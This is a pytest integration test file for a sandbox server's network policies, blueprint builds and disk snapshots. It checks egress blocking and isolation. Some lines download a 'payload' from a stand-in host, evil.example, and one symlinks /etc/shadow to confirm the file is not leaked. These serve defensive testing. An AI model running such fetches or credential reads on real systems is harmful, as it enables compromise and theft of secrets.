"""Blueprints and disk snapshots through the official SDK (sync and async) against a real
server on the netns runtime and an offline world: build-time policies are enforced during the
build, runtime policies are inherited and overridden, snapshots carry files (and nothing the
devbox user could not read) into devboxes under other policies."""

from __future__ import annotations

import asyncio
import secrets

import pytest
from runloop_api_client import AsyncRunloopSDK, RunloopSDK
from runloop_api_client.lib.polling import PollingConfig

from netns import namespaces
from simulator.dataplane import NS_PREFIX, instance_id
from tests.runtime_servers import runtime_server
from tests.server import ServerProcess

pytestmark = pytest.mark.privileged

WORLD = """
resolver = "198.51.100.53"
[hosts."registry.npmjs.org"]
address = "192.0.2.20"
http = [80]
[hosts."evil.example"]
address = "203.0.113.66"
http = [80]
"""
FAST = PollingConfig(interval_seconds=0.2, max_attempts=300)


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    with runtime_server(tmp_path_factory.mktemp("sdk-blueprints"), "netns", WORLD, subnet_base=150) as (server, _):
        yield server


@pytest.fixture
def sdk(server):
    # A fresh account per test: names, policies and blueprints never collide between tests.
    return RunloopSDK(bearer_token=f"bp-{secrets.token_hex(4)}", base_url=server.url, max_retries=0)


def curl(devbox, url: str):
    return devbox.cmd.exec(f"curl -sS --max-time 2 {url}")


def policies(sdk):
    return (
        sdk.network_policy.create(name="npm-only", allowed_hostnames=["registry.npmjs.org"]),
        sdk.network_policy.create(name="evil-only", allowed_hostnames=["evil.example"]),
    )


def test_the_build_time_policy_is_enforced_during_the_build(sdk, server):
    npm, _ = policies(sdk)
    blueprint = sdk.blueprint.create(
        name="fetches-from-npm",
        network_policy_id=npm.id,
        system_setup_commands=["curl -sS --max-time 2 http://registry.npmjs.org/left-pad > ~/left-pad"],
        polling_config=FAST,
    )
    info = blueprint.get_info()
    assert info.status == "build_complete" and info.parameters.network_policy_id == npm.id
    assert any("curl" in line.message for line in blueprint.logs().logs)
    # Against another host the same build fails: the resolver answers NXDOMAIN.
    failing = sdk.api.blueprints.create(
        name="fetches-from-evil",
        network_policy_id=npm.id,
        system_setup_commands=["curl -sS --max-time 2 http://evil.example/payload > ~/payload"],
    )
    with pytest.raises(Exception, match="failed"):
        sdk.api.blueprints.await_build_complete(failing.id, polling_config=FAST)
    failed = sdk.api.blueprints.retrieve(failing.id)
    assert failed.status == "failed" and failed.failure_reason == "build_failed"
    messages = [line.message for line in sdk.api.blueprints.logs(failing.id).logs]
    assert any("exited with 6" in m for m in messages), messages
    # Both build devboxes are gone: only the router and the world namespaces are left.
    prefix = f"{NS_PREFIX}{instance_id(server.data_dir)}-"
    assert sorted(namespaces.list_names(prefix)) == [prefix + "r", prefix + "w"]
    # Devboxes from the built blueprint have what the build fetched, under no policy (the
    # build-time one is not inherited).
    with blueprint.create_devbox() as devbox:
        assert devbox.get_info().launch_parameters.network_policy_id is None
        assert devbox.cmd.exec("cat ~/left-pad").stdout() == "registry.npmjs.org /left-pad\n"
        assert curl(devbox, "http://evil.example/").exit_code == 0


def test_runtime_policy_inherited_from_the_blueprint_then_overridden(sdk):
    npm, evil = policies(sdk)
    blueprint = sdk.blueprint.create(
        name="runtime-policy",
        network_policy_id=npm.id,  # build time only
        launch_parameters={"network_policy_id": evil.id},
        system_setup_commands=["echo built > ~/built"],
        polling_config=FAST,
    )
    with sdk.devbox.create_from_blueprint_name("runtime-policy") as inherited:
        info = inherited.get_info()
        assert info.blueprint_id == blueprint.id and info.launch_parameters.network_policy_id == evil.id
        assert inherited.cmd.exec("cat ~/built").stdout() == "built\n"
        assert curl(inherited, "http://evil.example/x").stdout() == "evil.example /x\n"
        assert curl(inherited, "http://registry.npmjs.org/").exit_code == 6
    with sdk.devbox.create_from_blueprint_id(blueprint.id, launch_parameters={"network_policy_id": npm.id}) as overridden:
        assert overridden.get_info().launch_parameters.network_policy_id == npm.id
        assert curl(overridden, "http://registry.npmjs.org/y").stdout() == "registry.npmjs.org /y\n"
        assert curl(overridden, "http://evil.example/").exit_code == 6
    # The launch policy stays in use while the blueprint exists; the build's, once the build
    # ended, does not (the blueprint's devboxes never use it).
    with pytest.raises(Exception, match="policy_in_use"):
        evil.delete()
    npm.delete()
    blueprint.delete()
    assert blueprint.get_info().state == "deleted"
    evil.delete()


def test_a_snapshot_resumes_with_its_files_under_another_policy(sdk, server):
    npm, evil = policies(sdk)
    source = sdk.devbox.create(launch_parameters={"network_policy_id": evil.id})
    with source:
        setup = source.cmd.exec(
            "mkdir -p ~/work && echo home-file > ~/work/notes && echo tmp-file > /tmp/scratch"
            " && chmod 640 ~/work/notes && ln -s /etc/shadow ~/shadow-link && ln -s work/notes ~/notes-link"
        )
        assert setup.exit_code == 0, setup.stderr()
        source.file.write(file_path="~/written.txt", contents="via the files API")
        snapshot = source.snapshot_disk(name="resume-me", commit_message="work in progress", metadata={"k": "v"})
        info = snapshot.get_info()
        assert info.status == "complete" and info.snapshot.commit_message == "work in progress"
        assert info.snapshot.metadata == {"k": "v"} and info.snapshot.source_devbox_id == source.id
        # netns: the bytes of the copied home and /tmp; docker: the committed image (base included).
        assert info.snapshot.size_bytes >= len("home-file\ntmp-file\nvia the files API")
    with snapshot.create_devbox(launch_parameters={"network_policy_id": npm.id}) as resumed:
        assert resumed.get_info().snapshot_id == snapshot.id
        assert resumed.get_info().launch_parameters.network_policy_id == npm.id
        out = resumed.cmd.exec("cat ~/work/notes /tmp/scratch ~/notes-link; stat -c '%a %u' ~/work/notes; id -u")
        notes, scratch, link, mode_owner, uid = out.stdout().splitlines()
        assert (notes, scratch, link) == ("home-file", "tmp-file", "home-file")
        assert mode_owner == f"640 {uid}"  # owned by this devbox's own user
        assert resumed.file.read(file_path="written.txt") == "via the files API"
        # The devbox's symlink came along as a symlink: nothing was read through it as root.
        leak = resumed.cmd.exec("readlink ~/shadow-link; cat ~/shadow-link")
        assert leak.stdout() == "/etc/shadow\n" and leak.exit_code != 0
        # The snapshot store (in the data dir) is out of every devbox's sight.
        assert resumed.cmd.exec(f"ls {server.data_dir}/disks/{snapshot.id}").exit_code != 0
        assert curl(resumed, "http://registry.npmjs.org/z").stdout() == "registry.npmjs.org /z\n"
        assert curl(resumed, "http://evil.example/").exit_code == 6
    # Without a policy of its own it takes the source devbox's.
    with snapshot.create_devbox() as inherited:
        assert inherited.get_info().launch_parameters.network_policy_id == evil.id
        assert curl(inherited, "http://evil.example/i").stdout() == "evil.example /i\n"
    assert [s.id for s in sdk.snapshot.list(devbox_id=source.id)] == [snapshot.id]
    snapshot.delete()
    assert snapshot.get_info().status == "deleted"


def test_async_sdk_blueprint_and_snapshot(server):
    async def flow():
        sdk = AsyncRunloopSDK(bearer_token=f"bp-async-{secrets.token_hex(4)}", base_url=server.url, max_retries=0)
        npm = await sdk.network_policy.create(name="npm-async", allowed_hostnames=["registry.npmjs.org"])
        evil = await sdk.network_policy.create(name="evil-async", allowed_hostnames=["evil.example"])
        blueprint = await sdk.blueprint.create(
            name="async-bp",
            network_policy_id=npm.id,
            launch_parameters={"network_policy_id": npm.id},
            system_setup_commands=["curl -sS --max-time 2 http://registry.npmjs.org/pkg > ~/pkg"],
            polling_config=FAST,
        )
        devbox = await blueprint.create_devbox()
        async with devbox:
            assert (await (await devbox.cmd.exec("cat ~/pkg")).stdout()) == "registry.npmjs.org /pkg\n"
            await devbox.cmd.exec("echo async > /tmp/state")
            snapshot = await devbox.snapshot_disk(name="async-snap")
            assert (await snapshot.get_info()).snapshot.source_blueprint_id == blueprint.id
        resumed = await snapshot.create_devbox(launch_parameters={"network_policy_id": evil.id})
        async with resumed:
            result = await resumed.cmd.exec("cat /tmp/state ~/pkg")
            assert (await result.stdout()) == "async\nregistry.npmjs.org /pkg\n"
            blocked = await resumed.cmd.exec("curl -sS --max-time 2 http://registry.npmjs.org/")
            assert blocked.exit_code == 6
        with pytest.raises(Exception, match="blueprint_in_use"):
            await blueprint.delete()
        await snapshot.delete()
        await blueprint.delete()
        assert (await blueprint.get_info()).state == "deleted"

    asyncio.run(flow())


def test_snapshots_and_blueprints_survive_a_restart(tmp_path):
    world = tmp_path / "world.toml"
    world.write_text(WORLD)
    args = ("--runtime", "netns", "--world", str(world), "--subnet", f"10.{secrets.randbelow(50) + 150}.0.0/16")
    data = tmp_path / "data"
    with ServerProcess(data, *args) as first:
        sdk = RunloopSDK(bearer_token="bp-restart", base_url=first.url, max_retries=0)
        blueprint = sdk.blueprint.create(name="durable", system_setup_commands=["echo bp > ~/bp"], polling_config=FAST)
        with blueprint.create_devbox() as devbox:
            devbox.cmd.exec("echo snap > /tmp/snap")
            snapshot = devbox.snapshot_disk(polling_config=FAST)
    with ServerProcess(data, *args) as second:
        sdk = RunloopSDK(bearer_token="bp-restart", base_url=second.url, max_retries=0)
        assert sdk.api.devboxes.disk_snapshots.query_status(snapshot.id).status == "complete"
        with sdk.devbox.create_from_snapshot(snapshot.id) as restored:
            assert restored.cmd.exec("cat ~/bp /tmp/snap").stdout() == "bp\nsnap\n"
        with sdk.devbox.create_from_blueprint_id(blueprint.id) as fresh:
            assert fresh.cmd.exec("cat ~/bp; ls /tmp").stdout() == "bp\n"
    leftovers = namespaces.list_names(f"{NS_PREFIX}{instance_id(data)}-")
    assert leftovers == [], leftovers



def test_a_dockerfile_workdir_that_does_not_exist_yet_is_made(sdk):
    """As Docker's WORKDIR: the directory is made, and the following steps run in it."""
    blueprint = sdk.blueprint.create(
        name="workdir",
        dockerfile="FROM debian:12\nWORKDIR ~/app/src\nRUN pwd > where.txt\n",
        polling_config=FAST,
    )
    assert blueprint.get_info().status == "build_complete"
    with blueprint.create_devbox() as devbox:
        assert devbox.cmd.exec("cat ~/app/src/where.txt").stdout() == "/home/user/app/src\n"
